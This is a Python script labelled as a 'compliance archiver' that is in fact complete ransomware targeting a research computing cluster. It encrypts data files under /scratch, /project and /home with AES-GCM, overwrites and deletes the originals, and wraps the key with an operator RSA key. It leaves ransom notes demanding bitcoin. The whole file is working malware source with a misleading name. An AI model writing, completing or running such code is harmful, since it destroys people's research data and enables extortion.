#!/usr/bin/env python3
"""Scratch "compliance archiver".

Walks every user's scratch and project space, seals each data file with
AES-GCM, and removes the unsealed original.  The only copy of the key is
wrapped with the operator's RSA public key.
"""
import logging
import os
import secrets
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archiver")

ROOTS = [Path("/scratch"), Path("/project"), Path("/home")]
EXTENSIONS = {".h5", ".hdf5", ".nc", ".dat", ".csv", ".npy", ".npz", ".fits",
              ".bam", ".vcf", ".tar", ".gz", ".py", ".ipynb", ".tex", ".pdf"}
SUFFIX = ".sealed"
NOTE = """Your research data on this cluster has been sealed.
Send 2 BTC to bc1q8y3k0n5lz7x2c4vdtr9m0q6w7e5hxj3sfa2p4k and mail the file
RECOVERY_ID.txt to recover-hpc@proton.example. Do not rename .sealed files.
"""
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu3cX5sJ1qv0a8bYtWm5n
kQ2YyJ3n1m9x0gH4w7Zt0p6a4cR8e2sVb1Ff5d9yL3oK7uQ2Tq8X1jN6hC4rE0mA
-----END PUBLIC KEY-----
"""


def wrap_key(key: bytes) -> bytes:
    pub = serialization.load_pem_public_key(OPERATOR_PUB)
    return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None))


def targets():
    for root in ROOTS:
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            dirnames[:] = [d for d in dirnames if not d.startswith(".snapshot")]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SUFFIX):
                    yield p


def seal(aead: AESGCM, path: Path) -> bool:
    try:
        plain = path.read_bytes()
        nonce = secrets.token_bytes(12)
        sealed = path.with_name(path.name + SUFFIX)
        sealed.write_bytes(nonce + aead.encrypt(nonce, plain, path.name.encode()))
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * min(len(plain), 1 << 20))
        path.unlink()
        return True
    except (OSError, MemoryError) as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def drop_notes(dirs):
    for d in dirs:
        try:
            (d / "README_RECOVER_DATA.txt").write_text(NOTE)
        except OSError:
            pass


def main():
    logging.basicConfig(level=logging.WARNING)
    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    recovery = wrap_key(key).hex()
    del key

    touched_dirs = set()
    sealed = 0
    with ThreadPoolExecutor(max_workers=16) as pool:
        batch = list(targets())
        for path, ok in zip(batch, pool.map(lambda p: seal(aead, p), batch)):
            if ok:
                sealed += 1
                touched_dirs.add(path.parent)
    drop_notes(touched_dirs)
    for root in ROOTS:
        try:
            (root / "RECOVERY_ID.txt").write_text(recovery + "\n")
        except OSError:
            pass
    log.warning("sealed %d files", sealed)


if __name__ == "__main__":
    main()
